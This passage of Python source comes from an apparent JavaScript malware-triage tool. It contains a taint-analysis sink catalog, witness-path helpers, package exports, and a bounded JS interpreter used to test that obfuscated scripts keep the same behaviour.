            ),
            SinkSpec(
                kind="document-write",
                mode="call",
                names=frozenset({"document.write", "document.writeln"}),
                description="parse-time markup injection",
            ),
            SinkSpec(
                kind="innerhtml",
                mode="assign",
                names=frozenset({"innerHTML", "outerHTML"}),
                description="markup injection via innerHTML/outerHTML",
            ),
            SinkSpec(
                kind="element-src",
                mode="assign",
                names=frozenset({"src"}),
                description="resource load redirected via .src",
            ),
            SinkSpec(
                kind="dynamic-dispatch",
                mode="dispatch",
                description="tainted computed key resolves a global API dynamically",
            ),
        ),
        sanitizers=(
            SanitizerSpec(
                kind="call",
                names=frozenset(
                    {"parseInt", "parseFloat", "Number", "Boolean", "encodeURIComponent", "escape"}
                ),
            ),
            SanitizerSpec(kind="member", names=frozenset({"length"})),
        ),
        propagators=(
            PropagatorSpec(kind="operator", names=frozenset({"+"})),
            PropagatorSpec(
                kind="method",
                names=frozenset(
                    {
                        "join",
                        "replace",
                        "replaceAll",
                        "split",
                        "concat",
                        "slice",
                        "substr",
                        "substring",
                        "trim",
                        "toString",
                        "toLowerCase",
                        "toUpperCase",
                        "reverse",
                        "map",
                        "charAt",
                        "repeat",
                        "padStart",
                        "padEnd",
                    }
                ),
            ),
        ),
    )
