"""Witness paths: the per-hop evidence trail attached to flow findings.

A flow finding is only explainable if it can show *how* tainted data got
from its source to the sink.  A :class:`Hop` is one step of that journey
(a source read, a concat, a call-site crossing, an assignment, finally
the sink); the ordered tuple of hops carried by each taint is the
witness.  Hops are frozen and total-ordered so taint sets can be joined,
pruned, and serialized deterministically.
"""

from __future__ import annotations

from dataclasses import dataclass
from typing import Any

#: Hard cap on witness length: propagation beyond this many hops keeps
#: the taint alive but stops growing the trail (termination guard).
MAX_WITNESS_HOPS = 16


@dataclass(frozen=True, order=True)
class Hop:
    """One propagation step of a witness path.

    ``op`` is a small vocabulary: ``source:<label>``, ``concat``,
    ``method:<name>``, ``arg:<param>``, ``return``, ``call:<name>``,
    ``element``, ``member``, ``assign:<name>``, ``array``, ``field``,
    and the terminal ``sink:<kind>``.
    """

    line: int
    col: int
    op: str

    def to_dict(self) -> dict[str, Any]:
        return {"line": self.line, "col": self.col, "op": self.op}

    @classmethod
    def from_dict(cls, data: dict[str, Any]) -> "Hop":
        return cls(line=int(data["line"]), col=int(data["col"]), op=str(data["op"]))


def extend_hops(hops: tuple[Hop, ...], hop: Hop) -> tuple[Hop, ...]:
    """Append ``hop`` unless it repeats the last step or the trail is full."""
    if hops and hops[-1] == hop:
        return hops
    if len(hops) >= MAX_WITNESS_HOPS:
        return hops
    return hops + (hop,)


def witness_dicts(
    hops: tuple[Hop, ...],
    lines: list[str] | None = None,
    max_chars: int = 120,
) -> list[dict[str, Any]]:
    """Render a hop tuple as the JSON-friendly witness list.

    When ``lines`` (the analyzed source split into lines) is given, each
    hop carries a trimmed ``snippet`` of its source line.
    """
    out: list[dict[str, Any]] = []
    for hop in hops:
        entry = hop.to_dict()
        if lines is not None and 1 <= hop.line <= len(lines):
            entry["snippet"] = lines[hop.line - 1].strip()[:max_chars]
        out.append(entry)
    return out
