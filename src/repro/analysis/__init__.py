"""Rule-based static analysis over the jsparser AST and dataflow facts.

The triage fast-path of the scan pipeline: explainable, microsecond-cheap
structural evidence (dynamic code sinks, decode chains, escape-soup
literals, dataflow anomalies) surfaced as structured findings — and, when
a *decisive* rule fires, strong enough to skip the full embed/classify
pipeline entirely.

Quick use::

    from repro.analysis import Analyzer

    report = Analyzer().analyze(open("suspect.js").read(), name="suspect.js")
    for finding in report.findings:
        print(finding.format("suspect.js"))
"""

from .analyzer import (
    EXTRACT_ERROR_RULE_ID,
    PARSE_ERROR_RULE_ID,
    Analyzer,
    analyze_source,
    annotate_raw_spans,
    apply_raw_suppressions,
    map_raw_line,
    parse_suppressions,
)
from .catalog import (
    DECODE_NAMES,
    SINK_NAMES,
    callee_name,
    default_rules,
    legacy_rules,
    shannon_entropy,
)
from .dataflow import TaintCatalog, TaintEngine, TaintResult, run_taint
from .findings import (
    SEVERITIES,
    SEVERITY_RANK,
    AnalysisReport,
    Finding,
    combine_score,
    severity_at_least,
)
from .flows import FlowRule, flow_rules
from .rules import Rule, RuleContext

__all__ = [
    "Analyzer",
    "AnalysisReport",
    "Finding",
    "Rule",
    "RuleContext",
    "EXTRACT_ERROR_RULE_ID",
    "PARSE_ERROR_RULE_ID",
    "SEVERITIES",
    "SEVERITY_RANK",
    "SINK_NAMES",
    "DECODE_NAMES",
    "FlowRule",
    "TaintCatalog",
    "TaintEngine",
    "TaintResult",
    "analyze_source",
    "annotate_raw_spans",
    "apply_raw_suppressions",
    "callee_name",
    "combine_score",
    "default_rules",
    "flow_rules",
    "legacy_rules",
    "map_raw_line",
    "parse_suppressions",
    "run_taint",
    "severity_at_least",
    "shannon_entropy",
]
