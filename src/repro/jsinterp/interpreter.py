"""Tree-walking evaluator for the parsed ES5 subset.

Covers the constructs the corpus generators and obfuscators emit:
closures, all statements, member/call/new expressions, the full operator
set (including 32-bit bitwise semantics), try/throw, labeled loops, and a
recorded host environment (:mod:`repro.jsinterp.host`).  A step budget
bounds run time; exceeding it raises :class:`BudgetExceeded`.

Primary use: the semantic-preservation test-suite runs original and
obfuscated programs and compares :meth:`Interpreter.run` outputs.
"""

from __future__ import annotations

import math
from typing import Any

from repro.jsparser import ast_nodes as ast
from repro.jsparser import parse

from .environment import Environment
from .errors import (
    BreakSignal,
    BudgetExceeded,
    ContinueSignal,
    JSReferenceError,
    JSTypeError,
    ReturnSignal,
    ThrowSignal,
    UnsupportedFeature,
)
from .host import HostRecorder, build_globals
from .values import (
    JSArray,
    JSFunction,
    JSNull,
    JSObject,
    JSUndefined,
    NativeFunction,
    js_equals,
    strict_equals,
    to_boolean,
    to_int32,
    to_number,
    to_string,
    to_uint32,
    type_of,
)
from . import methods


#: The interpreter whose run is currently active — lets detached built-ins
#: (Function.prototype.call/apply in :mod:`methods`) re-enter evaluation.
_ACTIVE_INTERPRETER: list["Interpreter | None"] = [None]


class Interpreter:
    """Evaluates programs with a bounded step budget.

    Args:
        max_steps: Statement/expression evaluations allowed per run.
    """

    def __init__(self, max_steps: int = 500_000):
        self.max_steps = max_steps
        self.steps = 0
        self.recorder = HostRecorder()
        self.global_env = Environment()
        for name, value in build_globals(self.recorder, self).items():
            self.global_env.declare(name, value)
        _ACTIVE_INTERPRETER[0] = self

    # ------------------------------------------------------------------ API

    def run(self, source: str) -> HostRecorder:
        """Parse and execute ``source``; return the recorded effects.

        An uncaught JavaScript ``throw`` halts the script (as in a real
        engine) and is recorded in ``recorder.errors`` — making "crashes
        with the same error" part of the observable behavior.
        """
        _ACTIVE_INTERPRETER[0] = self
        program = parse(source)
        self._hoist(program.body, self.global_env)
        try:
            for stmt in program.body:
                self._exec(stmt, self.global_env)
        except ThrowSignal as signal:
            self.recorder.errors.append(to_string(signal.value))
        except RecursionError as error:
            # Deep JS recursion exhausts the Python stack before the step
            # budget trips; report it as the same budget condition.
            raise BudgetExceeded("recursion depth exceeded") from error
        return self.recorder

    def eval_source(self, source: str) -> Any:
        """``eval``: execute in the global environment, return the last
        expression statement's value."""
        program = parse(source)
        self._hoist(program.body, self.global_env)
        result: Any = JSUndefined
        for stmt in program.body:
            value = self._exec(stmt, self.global_env)
            if stmt.type == "ExpressionStatement":
                result = value
        return result

    # ------------------------------------------------------------ budgeting

    def _tick(self) -> None:
        self.steps += 1
        if self.steps > self.max_steps:
            raise BudgetExceeded(f"exceeded {self.max_steps} steps")

    # -------------------------------------------------------------- hoisting

    def _hoist(self, body: list[ast.Node], env: Environment) -> None:
        """var and function-declaration hoisting for one function body."""
        for stmt in body:
            self._hoist_stmt(stmt, env)

    def _hoist_stmt(self, node: ast.Node | None, env: Environment) -> None:
        if node is None:
            return
        type_ = node.type
        if type_ == "FunctionDeclaration":
            env.declare(node.id.name, self._make_function(node, env))
            return
        if type_ == "VariableDeclaration" and node.kind == "var":
            for declarator in node.declarations:
                if not env.has(declarator.id.name) or declarator.id.name not in env.bindings:
                    env.bindings.setdefault(declarator.id.name, JSUndefined)
            return
        if type_ in ("FunctionExpression", "ArrowFunctionExpression"):
            return  # separate scope
        for child in node.children():
            if child.type in ("FunctionExpression", "ArrowFunctionExpression"):
                continue
            self._hoist_stmt(child, env)

    def _make_function(self, node: ast.Node, env: Environment) -> JSFunction:
        params: list[str] = []
        rest: str | None = None
        for param in getattr(node, "params", []):
            if param.type == "SpreadElement":
                rest = param.argument.name
            else:
                params.append(param.name)
        name = node.id.name if getattr(node, "id", None) is not None else ""
        is_arrow = node.type == "ArrowFunctionExpression"
        return JSFunction(
            name=name,
            params=params,
            rest_param=rest,
            body=node.body,
            env=env,
            is_arrow=is_arrow,
            is_expression_body=is_arrow and getattr(node, "expression", False),
        )

    # ------------------------------------------------------------ statements

    def _exec(self, node: ast.Node, env: Environment) -> Any:
        self._tick()
        handler = getattr(self, f"_stmt_{node.type}", None)
        if handler is None:
            raise UnsupportedFeature(f"statement {node.type}")
        try:
            return handler(node, env)
        except (JSReferenceError, JSTypeError) as error:
            # Engine-raised errors are catchable by JavaScript try/catch.
            raise ThrowSignal(str(error)) from error

    def _stmt_ExpressionStatement(self, node, env):
        return self._eval(node.expression, env)

    def _stmt_EmptyStatement(self, node, env):
        return JSUndefined

    def _stmt_DebuggerStatement(self, node, env):
        return JSUndefined

    def _stmt_VariableDeclaration(self, node, env):
        for declarator in node.declarations:
            value = self._eval(declarator.init, env) if declarator.init is not None else JSUndefined
            env.declare(declarator.id.name, value)
        return JSUndefined

    def _stmt_FunctionDeclaration(self, node, env):
        env.declare(node.id.name, self._make_function(node, env))
        return JSUndefined

    def _stmt_BlockStatement(self, node, env):
        for stmt in node.body:
            self._exec(stmt, env)
        return JSUndefined

    def _stmt_IfStatement(self, node, env):
        if to_boolean(self._eval(node.test, env)):
            self._exec(node.consequent, env)
        elif node.alternate is not None:
            self._exec(node.alternate, env)
        return JSUndefined

    def _run_loop_body(self, body, env, label):
        try:
            self._exec(body, env)
        except ContinueSignal as signal:
            if signal.label is not None and signal.label != label:
                raise
        # BreakSignal propagates to the loop driver.

    def _loop(self, node, env, label=None):
        raise NotImplementedError  # pragma: no cover

    def _stmt_WhileStatement(self, node, env, label=None):
        while to_boolean(self._eval(node.test, env)):
            self._tick()
            try:
                self._run_loop_body(node.body, env, label)
            except BreakSignal as signal:
                if signal.label is None or signal.label == label:
                    break
                raise
        return JSUndefined

    def _stmt_DoWhileStatement(self, node, env, label=None):
        while True:
            self._tick()
            try:
                self._run_loop_body(node.body, env, label)
            except BreakSignal as signal:
                if signal.label is None or signal.label == label:
                    break
                raise
            if not to_boolean(self._eval(node.test, env)):
                break
        return JSUndefined

    def _stmt_ForStatement(self, node, env, label=None):
        if node.init is not None:
            if node.init.type == "VariableDeclaration":
                self._exec(node.init, env)
            else:
                self._eval(node.init, env)
        while node.test is None or to_boolean(self._eval(node.test, env)):
            self._tick()
            try:
                self._run_loop_body(node.body, env, label)
            except BreakSignal as signal:
                if signal.label is None or signal.label == label:
                    break
                raise
            if node.update is not None:
                self._eval(node.update, env)
        return JSUndefined

    def _for_in_of_keys(self, node, env):
        subject = self._eval(node.right, env)
        if node.type == "ForInStatement":
            if isinstance(subject, JSArray):
                return [str(i) for i in range(len(subject.elements))] + list(subject.properties)
            if isinstance(subject, JSObject):
                return subject.keys()
            if isinstance(subject, str):
                return [str(i) for i in range(len(subject))]
            return []
        # for..of
        if isinstance(subject, JSArray):
            return list(subject.elements)
        if isinstance(subject, str):
            return list(subject)
        raise JSTypeError("value is not iterable")

    def _stmt_ForInStatement(self, node, env, label=None):
        return self._for_in_of(node, env, label)

    def _stmt_ForOfStatement(self, node, env, label=None):
        return self._for_in_of(node, env, label)

    def _for_in_of(self, node, env, label=None):
        items = self._for_in_of_keys(node, env)
        if node.left.type == "VariableDeclaration":
            name = node.left.declarations[0].id.name
            env.declare(name, JSUndefined)
            assign = lambda v: env.set(name, v)  # noqa: E731
        else:
            assign = lambda v: self._assign_target(node.left, v, env)  # noqa: E731
        for item in items:
            self._tick()
            assign(item)
            try:
                self._run_loop_body(node.body, env, label)
            except BreakSignal as signal:
                if signal.label is None or signal.label == label:
                    break
                raise
        return JSUndefined

    def _stmt_LabeledStatement(self, node, env):
        label = node.label.name
        body = node.body
        handler = getattr(self, f"_stmt_{body.type}", None)
        try:
            if body.type in (
                "WhileStatement",
                "DoWhileStatement",
                "ForStatement",
                "ForInStatement",
                "ForOfStatement",
            ):
                handler(body, env, label=label)
            else:
                self._exec(body, env)
        except BreakSignal as signal:
            if signal.label != label:
                raise
        return JSUndefined

    def _stmt_BreakStatement(self, node, env):
        raise BreakSignal(node.label.name if node.label else None)

    def _stmt_ContinueStatement(self, node, env):
        raise ContinueSignal(node.label.name if node.label else None)

    def _stmt_ReturnStatement(self, node, env):
        value = self._eval(node.argument, env) if node.argument is not None else JSUndefined
        raise ReturnSignal(value)

    def _stmt_ThrowStatement(self, node, env):
        raise ThrowSignal(self._eval(node.argument, env))

    def _stmt_TryStatement(self, node, env):
        try:
            self._exec(node.block, env)
        except ThrowSignal as signal:
            if node.handler is not None:
                catch_env = Environment(env)
                if node.handler.param is not None:
                    catch_env.declare(node.handler.param.name, signal.value)
                self._exec(node.handler.body, catch_env)
            elif node.finalizer is None:
                raise
        finally:
            if node.finalizer is not None:
                self._exec(node.finalizer, env)
        return JSUndefined

    def _stmt_SwitchStatement(self, node, env):
        discriminant = self._eval(node.discriminant, env)
        matched = False
        try:
            for case in node.cases:
                if not matched and case.test is not None:
                    if strict_equals(discriminant, self._eval(case.test, env)):
                        matched = True
                if matched:
                    for stmt in case.consequent:
                        self._exec(stmt, env)
            if not matched:
                # default clause (and fallthrough after it)
                seen_default = False
                for case in node.cases:
                    if case.test is None:
                        seen_default = True
                    if seen_default:
                        for stmt in case.consequent:
                            self._exec(stmt, env)
        except BreakSignal as signal:
            if signal.label is not None:
                raise
        return JSUndefined

    def _stmt_WithStatement(self, node, env):
        raise UnsupportedFeature("with statement")

    # ----------------------------------------------------------- expressions

    def _eval(self, node: ast.Node, env: Environment) -> Any:
        self._tick()
        handler = getattr(self, f"_expr_{node.type}", None)
        if handler is None:
            raise UnsupportedFeature(f"expression {node.type}")
        try:
            return handler(node, env)
        except (JSReferenceError, JSTypeError) as error:
            raise ThrowSignal(str(error)) from error

    def _expr_Literal(self, node, env):
        if getattr(node, "regex", None) is not None:
            return JSObject({"source": node.regex["pattern"], "flags": node.regex["flags"]})
        value = node.value
        if isinstance(value, bool) or value is None:
            return JSNull if value is None else value
        if isinstance(value, (int, float)):
            return float(value)
        return value

    def _expr_TemplateLiteral(self, node, env):
        return node.value

    def _expr_Identifier(self, node, env):
        return env.get(node.name)

    def _expr_ThisExpression(self, node, env):
        if env.has("this"):
            return env.get("this")
        return JSUndefined

    def _expr_ArrayExpression(self, node, env):
        elements = []
        for element in node.elements:
            if element is None:
                elements.append(JSUndefined)
            elif element.type == "SpreadElement":
                spread = self._eval(element.argument, env)
                if isinstance(spread, JSArray):
                    elements.extend(spread.elements)
                elif isinstance(spread, str):
                    elements.extend(list(spread))
                else:
                    raise JSTypeError("spread of non-iterable")
            else:
                elements.append(self._eval(element, env))
        return JSArray(elements)

    def _expr_ObjectExpression(self, node, env):
        obj = JSObject()
        for prop in node.properties:
            if prop.kind in ("get", "set"):
                continue  # accessors unsupported at runtime; rare in corpus
            if prop.computed:
                key = to_string(self._eval(prop.key, env))
            elif prop.key.type == "Identifier":
                key = prop.key.name
            else:
                key = to_string(self._expr_Literal(prop.key, env))
            obj.set(key, self._eval(prop.value, env))
        return obj

    def _expr_FunctionExpression(self, node, env):
        fn = self._make_function(node, env)
        if node.id is not None:
            # Named function expressions can call themselves.
            self_env = Environment(env)
            self_env.declare(node.id.name, fn)
            fn.env = self_env
        return fn

    def _expr_ArrowFunctionExpression(self, node, env):
        return self._make_function(node, env)

    def _expr_SequenceExpression(self, node, env):
        result = JSUndefined
        for expression in node.expressions:
            result = self._eval(expression, env)
        return result

    def _expr_ConditionalExpression(self, node, env):
        if to_boolean(self._eval(node.test, env)):
            return self._eval(node.consequent, env)
        return self._eval(node.alternate, env)

    def _expr_UnaryExpression(self, node, env):
        op = node.operator
        if op == "typeof":
            if node.argument.type == "Identifier" and not env.has(node.argument.name):
                return "undefined"
            return type_of(self._eval(node.argument, env))
        if op == "delete":
            target = node.argument
            if target.type == "MemberExpression":
                obj = self._eval(target.object, env)
                key = self._member_key(target, env)
                if isinstance(obj, JSObject):
                    return obj.delete(key)
            return True
        value = self._eval(node.argument, env)
        if op == "-":
            return -to_number(value)
        if op == "+":
            return to_number(value)
        if op == "!":
            return not to_boolean(value)
        if op == "~":
            return float(~to_int32(value))
        if op == "void":
            return JSUndefined
        raise UnsupportedFeature(f"unary {op}")

    def _expr_UpdateExpression(self, node, env):
        old = to_number(self._eval(node.argument, env))
        new = old + 1.0 if node.operator == "++" else old - 1.0
        self._assign_target(node.argument, new, env)
        return new if node.prefix else old

    def _expr_BinaryExpression(self, node, env):
        left = self._eval(node.left, env)
        right = self._eval(node.right, env)
        return self._binary(node.operator, left, right)

    def _binary(self, op: str, left: Any, right: Any) -> Any:
        if op == "+":
            if isinstance(left, str) or isinstance(right, str) or isinstance(left, (JSObject,)) or isinstance(right, (JSObject,)):
                if isinstance(left, (JSObject,)) or isinstance(right, (JSObject,)):
                    left_p = to_string(left) if isinstance(left, (JSObject,)) else left
                    right_p = to_string(right) if isinstance(right, (JSObject,)) else right
                    return self._binary("+", left_p, right_p)
                return to_string(left) + to_string(right)
            return to_number(left) + to_number(right)
        if op == "-":
            return to_number(left) - to_number(right)
        if op == "*":
            return to_number(left) * to_number(right)
        if op == "/":
            denominator = to_number(right)
            numerator = to_number(left)
            if denominator == 0.0:
                if numerator == 0.0 or math.isnan(numerator):
                    return math.nan
                return math.inf if (numerator > 0) == (not str(denominator).startswith("-")) else -math.inf
            return numerator / denominator
        if op == "%":
            denominator = to_number(right)
            numerator = to_number(left)
            if denominator == 0.0 or math.isnan(denominator) or math.isnan(numerator) or math.isinf(numerator):
                return math.nan
            return math.fmod(numerator, denominator)
        if op == "**":
            return to_number(left) ** to_number(right)
        if op in ("==", "!="):
            result = js_equals(left, right)
            return result if op == "==" else not result
        if op in ("===", "!=="):
            result = strict_equals(left, right)
            return result if op == "===" else not result
        if op in ("<", ">", "<=", ">="):
            if isinstance(left, str) and isinstance(right, str):
                a, b = left, right
            else:
                a, b = to_number(left), to_number(right)
                if math.isnan(a) or math.isnan(b):
                    return False
            return {"<": a < b, ">": a > b, "<=": a <= b, ">=": a >= b}[op]
        if op == "&":
            return float(to_int32(left) & to_int32(right))
        if op == "|":
            return float(to_int32(left) | to_int32(right))
        if op == "^":
            return float(to_int32(left) ^ to_int32(right))
        if op == "<<":
            return float(to_int32(to_int32(left) << (to_uint32(right) & 31)))
        if op == ">>":
            return float(to_int32(left) >> (to_uint32(right) & 31))
        if op == ">>>":
            return float(to_uint32(left) >> (to_uint32(right) & 31))
        if op == "in":
            key = to_string(left)
            if isinstance(right, JSObject):
                return right.has(key)
            raise JSTypeError("'in' on non-object")
        if op == "instanceof":
            return False  # no prototype chains in the subset
        raise UnsupportedFeature(f"binary {op}")

    def _expr_LogicalExpression(self, node, env):
        left = self._eval(node.left, env)
        op = node.operator
        if op == "&&":
            return self._eval(node.right, env) if to_boolean(left) else left
        if op == "||":
            return left if to_boolean(left) else self._eval(node.right, env)
        if op == "??":
            return self._eval(node.right, env) if left is JSUndefined or left is JSNull else left
        raise UnsupportedFeature(f"logical {op}")

    def _expr_AssignmentExpression(self, node, env):
        if node.operator == "=":
            value = self._eval(node.right, env)
        else:
            current = self._eval(node.left, env)
            right = self._eval(node.right, env)
            binary_op = node.operator[:-1]
            if binary_op in ("&&", "||", "??"):
                raise UnsupportedFeature("logical assignment")
            value = self._binary(binary_op, current, right)
        self._assign_target(node.left, value, env)
        return value

    def _assign_target(self, target: ast.Node, value: Any, env: Environment) -> None:
        if target.type == "Identifier":
            env.set(target.name, value)
            return
        if target.type == "MemberExpression":
            obj = self._eval(target.object, env)
            key = self._member_key(target, env)
            if isinstance(obj, (JSObject, JSFunction)):
                obj.set(key, value)
                return
            if isinstance(obj, NativeFunction):
                getattr(obj, "properties", {})[key] = value
                return
            raise JSTypeError(f"cannot set property {key!r} on {type_of(obj)}")
        raise UnsupportedFeature(f"assignment target {target.type}")

    def _member_key(self, node, env) -> str:
        if node.computed:
            return to_string(self._eval(node.property, env))
        return node.property.name

    def _expr_MemberExpression(self, node, env):
        obj = self._eval(node.object, env)
        key = self._member_key(node, env)
        return self._get_member(obj, key)

    def _get_member(self, obj: Any, key: str) -> Any:
        if obj is JSUndefined or obj is JSNull:
            raise ThrowSignal(f"TypeError: cannot read property {key!r} of {to_string(obj)}")
        method = methods.lookup(obj, key)
        if method is not None:
            return method
        if isinstance(obj, (JSObject, JSFunction)):
            return obj.get(key)
        if isinstance(obj, NativeFunction):
            return getattr(obj, "properties", {}).get(key, JSUndefined)
        return JSUndefined

    def _expr_CallExpression(self, node, env):
        callee = node.callee
        this: Any = JSUndefined
        if callee.type == "MemberExpression":
            this = self._eval(callee.object, env)
            fn = self._get_member(this, self._member_key(callee, env))
        else:
            fn = self._eval(callee, env)
        args = self._eval_args(node.arguments, env)
        return self.call_function(fn, this, args)

    def _eval_args(self, arguments, env) -> list[Any]:
        out: list[Any] = []
        for argument in arguments:
            if argument.type == "SpreadElement":
                spread = self._eval(argument.argument, env)
                if isinstance(spread, JSArray):
                    out.extend(spread.elements)
                elif isinstance(spread, str):
                    out.extend(list(spread))
                else:
                    raise JSTypeError("spread of non-iterable")
            else:
                out.append(self._eval(argument, env))
        return out

    def call_function(self, fn: Any, this: Any, args: list[Any]) -> Any:
        self._tick()
        if isinstance(fn, NativeFunction):
            return fn(this, args)
        if isinstance(fn, methods.BoundMethod):
            return fn.call(args)
        if not isinstance(fn, JSFunction):
            raise ThrowSignal(f"TypeError: {to_string(fn)} is not a function")

        call_env = Environment(fn.env)
        if not fn.is_arrow:
            call_env.declare("this", this)
            call_env.declare("arguments", JSArray(list(args)))
        for i, name in enumerate(fn.params):
            call_env.declare(name, args[i] if i < len(args) else JSUndefined)
        if fn.rest_param is not None:
            call_env.declare(fn.rest_param, JSArray(list(args[len(fn.params) :])))

        if fn.is_expression_body:
            return self._eval(fn.body, call_env)
        self._hoist(fn.body.body, call_env)
        try:
            for stmt in fn.body.body:
                self._exec(stmt, call_env)
        except ReturnSignal as signal:
            return signal.value
        return JSUndefined

    def _expr_NewExpression(self, node, env):
        fn = self._eval(node.callee, env)
        args = self._eval_args(node.arguments, env)
        if isinstance(fn, NativeFunction):
            return fn(JSUndefined, args)
        if isinstance(fn, JSFunction):
            instance = JSObject()
            result = self.call_function(fn, instance, args)
            return result if isinstance(result, (JSObject,)) else instance
        raise ThrowSignal("TypeError: not a constructor")

    def _expr_SpreadElement(self, node, env):  # pragma: no cover - guarded by callers
        raise UnsupportedFeature("spread outside call/array")


def run_program(source: str, max_steps: int = 500_000) -> HostRecorder:
    """Convenience: interpret ``source`` and return the recorded effects."""
    return Interpreter(max_steps=max_steps).run(source)
