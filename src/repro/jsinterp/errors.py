"""Interpreter error types and control-flow signals."""

from __future__ import annotations

from typing import Any


class JSInterpreterError(Exception):
    """Base class for interpreter-detected failures."""


class JSReferenceError(JSInterpreterError):
    """Unresolvable identifier."""


class JSTypeError(JSInterpreterError):
    """Operation applied to an incompatible value (e.g. calling a number)."""


class BudgetExceeded(JSInterpreterError):
    """The configured step budget ran out (guards infinite loops)."""


class UnsupportedFeature(JSInterpreterError):
    """The program uses a construct outside the interpreted subset."""


class ThrowSignal(Exception):
    """A JavaScript ``throw`` propagating to the nearest handler."""

    def __init__(self, value: Any):
        super().__init__(str(value))
        self.value = value


class ReturnSignal(Exception):
    """``return`` unwinding to the current function call."""

    def __init__(self, value: Any):
        super().__init__("return")
        self.value = value


class BreakSignal(Exception):
    """``break`` unwinding to the nearest enclosing loop/switch."""

    def __init__(self, label: str | None = None):
        super().__init__("break")
        self.label = label


class ContinueSignal(Exception):
    """``continue`` unwinding to the nearest enclosing loop."""

    def __init__(self, label: str | None = None):
        super().__init__("continue")
        self.label = label
