"""Lexical environments (scope chains) for the interpreter."""

from __future__ import annotations

from typing import Any

from .errors import JSReferenceError
from .values import JSUndefined


class Environment:
    """A binding frame with a parent pointer (the scope chain)."""

    def __init__(self, parent: "Environment | None" = None):
        self.parent = parent
        self.bindings: dict[str, Any] = {}

    def declare(self, name: str, value: Any = JSUndefined) -> None:
        """Create (or overwrite) a binding in this frame."""
        self.bindings[name] = value

    def has(self, name: str) -> bool:
        env: Environment | None = self
        while env is not None:
            if name in env.bindings:
                return True
            env = env.parent
        return False

    def get(self, name: str) -> Any:
        env: Environment | None = self
        while env is not None:
            if name in env.bindings:
                return env.bindings[name]
            env = env.parent
        raise JSReferenceError(f"{name} is not defined")

    def set(self, name: str, value: Any) -> None:
        """Assign to the nearest binding; undeclared names become globals
        (sloppy-mode semantics, which the corpus relies on)."""
        env: Environment | None = self
        while env is not None:
            if name in env.bindings:
                env.bindings[name] = value
                return
            if env.parent is None:
                env.bindings[name] = value  # implicit global
                return
            env = env.parent

    def global_env(self) -> "Environment":
        env = self
        while env.parent is not None:
            env = env.parent
        return env
