"""A bounded tree-walking interpreter for the parsed JavaScript subset.

Exists to *verify* the rest of the repository: the semantic-preservation
tests run original and obfuscated programs side by side and compare their
observable effects (console output, document writes, cookies, redirects).

Quick use::

    from repro.jsinterp import run_program

    effects = run_program("console.log('hi', 1 + 2);")
    assert effects.console == ["hi 3"]
"""

from .environment import Environment
from .errors import (
    BreakSignal,
    BudgetExceeded,
    ContinueSignal,
    JSInterpreterError,
    JSReferenceError,
    JSTypeError,
    ReturnSignal,
    ThrowSignal,
    UnsupportedFeature,
)
from .host import HostRecorder
from .interpreter import Interpreter, run_program
from .values import (
    JSArray,
    JSFunction,
    JSNull,
    JSObject,
    JSUndefined,
    NativeFunction,
    to_boolean,
    to_number,
    to_string,
    type_of,
)

__all__ = [
    "Environment",
    "BreakSignal",
    "BudgetExceeded",
    "ContinueSignal",
    "JSInterpreterError",
    "JSReferenceError",
    "JSTypeError",
    "ReturnSignal",
    "ThrowSignal",
    "UnsupportedFeature",
    "HostRecorder",
    "Interpreter",
    "run_program",
    "JSArray",
    "JSFunction",
    "JSNull",
    "JSObject",
    "JSUndefined",
    "NativeFunction",
    "to_boolean",
    "to_number",
    "to_string",
    "type_of",
]
