"""Runtime value model for the JavaScript interpreter.

JavaScript values map onto Python as:

* numbers → ``float`` (rendered integer-like when whole, as JS does),
* strings → ``str``; booleans → ``bool``; ``null`` → ``JSNull``;
  ``undefined`` → ``JSUndefined``,
* objects → :class:`JSObject`; arrays → :class:`JSArray`;
  functions → :class:`JSFunction` / :class:`NativeFunction`.

Coercion helpers implement the (sub)set of ToString/ToNumber/ToBoolean/
ToInt32 semantics the corpus exercises.
"""

from __future__ import annotations

import math
from dataclasses import dataclass, field
from typing import Any, Callable


class _Singleton:
    _name = "singleton"

    def __repr__(self) -> str:  # pragma: no cover - debugging aid
        return self._name


class JSUndefinedType(_Singleton):
    _name = "undefined"


class JSNullType(_Singleton):
    _name = "null"


JSUndefined = JSUndefinedType()
JSNull = JSNullType()


class JSObject:
    """A plain mutable object with prototype-less own properties."""

    def __init__(self, properties: dict[str, Any] | None = None):
        self.properties: dict[str, Any] = dict(properties or {})

    def get(self, key: str) -> Any:
        return self.properties.get(key, JSUndefined)

    def set(self, key: str, value: Any) -> None:
        self.properties[key] = value

    def has(self, key: str) -> bool:
        return key in self.properties

    def delete(self, key: str) -> bool:
        return self.properties.pop(key, None) is not None

    def keys(self) -> list[str]:
        return list(self.properties)


class JSArray(JSObject):
    """Array: dense element list plus ordinary properties."""

    def __init__(self, elements: list[Any] | None = None):
        super().__init__()
        self.elements: list[Any] = list(elements or [])

    def get(self, key: str) -> Any:
        if key == "length":
            return float(len(self.elements))
        index = _array_index(key)
        if index is not None:
            return self.elements[index] if index < len(self.elements) else JSUndefined
        return super().get(key)

    def set(self, key: str, value: Any) -> None:
        if key == "length":
            new_length = int(to_number(value))
            del self.elements[new_length:]
            self.elements.extend([JSUndefined] * (new_length - len(self.elements)))
            return
        index = _array_index(key)
        if index is not None:
            if index >= len(self.elements):
                self.elements.extend([JSUndefined] * (index + 1 - len(self.elements)))
            self.elements[index] = value
            return
        super().set(key, value)

    def has(self, key: str) -> bool:
        index = _array_index(key)
        if index is not None:
            return index < len(self.elements)
        return key == "length" or super().has(key)

    def keys(self) -> list[str]:
        return [str(i) for i in range(len(self.elements))] + super().keys()


def _array_index(key: str) -> int | None:
    if key.isdigit():
        return int(key)
    return None


@dataclass
class JSFunction:
    """A user-defined function (closure over its defining environment)."""

    name: str
    params: list[str]
    rest_param: str | None
    body: Any  # BlockStatement or expression node (arrow bodies)
    env: Any  # Environment
    is_arrow: bool = False
    is_expression_body: bool = False
    properties: dict[str, Any] = field(default_factory=dict)

    def get(self, key: str) -> Any:
        return self.properties.get(key, JSUndefined)

    def set(self, key: str, value: Any) -> None:
        self.properties[key] = value


@dataclass
class NativeFunction:
    """A host function implemented in Python."""

    name: str
    fn: Callable[..., Any]
    bound_this: Any = None

    def __call__(self, this, args):
        return self.fn(this, args)


# ------------------------------------------------------------ coercions


def to_boolean(value: Any) -> bool:
    if value is JSUndefined or value is JSNull:
        return False
    if isinstance(value, bool):
        return value
    if isinstance(value, float):
        return value != 0.0 and not math.isnan(value)
    if isinstance(value, str):
        return value != ""
    return True  # objects, arrays, functions


def to_number(value: Any) -> float:
    if isinstance(value, bool):
        return 1.0 if value else 0.0
